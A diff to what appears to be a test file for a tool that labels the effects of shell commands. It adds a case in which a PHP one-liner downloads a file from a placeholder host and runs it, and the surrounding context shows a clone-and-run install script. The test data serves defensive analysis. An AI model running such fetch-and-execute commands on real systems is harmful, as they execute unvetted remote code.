@@ -165,6 +165,16 @@ describe('files of the line', () => {
       ],
     ],
     [
+      'downloaded by code that puts it into a file, then run',
+      "php -r \"copy('https://x.example/i', 'a.php');\" && php a.php",
+      [
+        'connect:get https://x.example/i',
+        'write a.php',
+        'execute:download a.php',
+        'unknown: runs `a.php`, which this line makes in a way that is not followed',
+      ],
+    ],
+    [
       'cloned, then run',
       'git clone https://x.example/r; sh r/install.sh',
       [
